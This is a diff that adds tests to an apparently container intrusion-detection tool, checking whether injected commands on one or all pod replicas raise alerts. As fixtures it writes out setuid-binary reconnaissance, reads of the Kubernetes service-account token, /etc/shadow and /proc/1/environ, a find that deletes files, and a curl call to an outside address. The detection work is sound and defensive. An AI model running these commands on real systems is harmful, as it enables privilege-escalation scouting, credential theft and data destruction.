@@ -8,7 +8,7 @@ from peerwatch.columns import ProcessFlag
 
 from collector.analysis import Analysis
 from collector.analysis.behaviours import restored
-from collector.analysis.errands import MOST, Errands
+from collector.analysis.errands import MOST, Errands, only_looks
 from collector.analysis.persons import MOST as MOST_NAMES, Persons
 from collector.detect.argument_context import only_asks
 from collector.detect.tools import Level
@@ -266,3 +266,85 @@ def test_in_the_first_minutes_what_one_of_many_is_told_from_outside_is_no_probe(
     (alert,) = alerts(analyse(cluster, until=700))
 
     assert [each.pod for each in alert.replicas] == [pods[2].name]
+
+
+TAKES_STOCK = "cat /etc/issue; find / -xdev -perm -4000 -type f 2>/dev/null; ls -l /etc/group"
+
+
+def takes_stock(cluster: Cluster, at: float, pod: Replica) -> None:
+    shell = cluster.exec(at, pod, "/usr/bin/dash", parent="", args=("sh", "-c", TAKES_STOCK), flags=INJECTED)
+    words = ("find", "/", "-xdev", "-perm", "-4000", "-type", "f")
+    cluster.exec(at + 0.01, pod, "/usr/bin/find", parent="/usr/bin/dash", args=words, flags=INJECTED, parent_pid=shell)
+
+
+@pytest.mark.parametrize("replicas", [2, 3, 8])
+def test_who_takes_stock_of_all_replicas_of_one_workload_is_hardly_an_intruder(cluster: Cluster, replicas: int) -> None:
+    pods = cluster.pods(replicas)
+    cluster.normal(pods, 0, 900)
+    for number, pod in enumerate(pods):
+        takes_stock(cluster, 700.5 + 2.5 * number, pod)
+
+    assert {each.severity for each in analyse(cluster, until=1000)} <= {Severity.INFO, Severity.LOW}
+
+
+def test_who_takes_stock_of_one_replica_is_an_intruder(cluster: Cluster) -> None:
+    pods = cluster.pods(4)
+    cluster.normal(pods, 0, 900)
+    takes_stock(cluster, 700.5, pods[2])
+
+    (alert,) = alerts(analyse(cluster, until=1000))
+
+    assert (alert.severity, [each.pod for each in alert.replicas]) == (Severity.MEDIUM, [pods[2].name])
+
+
+def test_the_same_stock_taken_an_hour_apart_is_no_errand(cluster: Cluster) -> None:
+    pods = cluster.pods(2)
+    cluster.normal(pods, 0, 4500, every=5)
+    takes_stock(cluster, 700.5, pods[0])
+    takes_stock(cluster, 4300.5, pods[1])
+
+    assert [each.severity for each in alerts(analyse(cluster, until=4600))] == [Severity.MEDIUM] * 2
+
+
+def test_who_reads_credentials_on_all_replicas_is_an_intruder(cluster: Cluster) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 900)
+    for number, pod in enumerate(pods):
+        words = ("cat", "/run/secrets/kubernetes.io/serviceaccount/token")
+        cluster.exec(700.5 + number, pod, "/usr/bin/cat", parent="", args=words, flags=INJECTED)
+
+    (alert,) = alerts(analyse(cluster, until=1000))
+
+    assert alert.severity >= Severity.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("words", "looks"),
+    [
+        (("find", "/", "-perm", "-2000"), True),
+        (("sh", "-c", "id; uname -a; find / -perm -4000 2>&1 | sort >/dev/null"), True),
+        (("sh", "-c", "find / -perm -4000 > /srv/list"), False),
+        (("find", "/", "-perm", "-4000", "-exec", "rm", "{}", ";"), False),
+        (("sh", "-c", "find / -perm -4000; curl -s http://203.0.113.7/x"), False),
+        (("cat", "/etc/shadow"), False),
+        (("sh",), False),
+    ],
+)
+def test_taking_stock_is_told_apart_from_the_rest(words: tuple[str, ...], *, looks: bool) -> None:
+    behaviour = restored(BehaviourType.EXEC, f"/usr/bin/{words[0]} (injected)", words, "")
+
+    assert only_looks(behaviour) is looks
+    assert not only_looks(restored(BehaviourType.EXEC, f"/usr/bin/{words[0]} <- /bin/server", words, "/bin/server"))
+
+
+def test_a_shell_is_compared_by_what_it_was_told(cluster: Cluster) -> None:
+    pods = cluster.pods(3)
+    cluster.normal(pods, 0, 900)
+    for pod in pods[:2]:
+        cluster.exec(600.5, pod, "/usr/bin/dash", parent="", args=("sh", "-c", "echo $PATH"), flags=INJECTED)
+    words = ("sh", "-c", "while read x; do echo $x; done </proc/1/environ")
+    cluster.exec(700.5, pods[2], "/usr/bin/dash", parent="", args=words, flags=INJECTED)
+
+    (alert,) = alerts(analyse(cluster, until=1000))
+
+    assert alert.reason.endswith("none of its 2 peers ever did (reads credentials)")
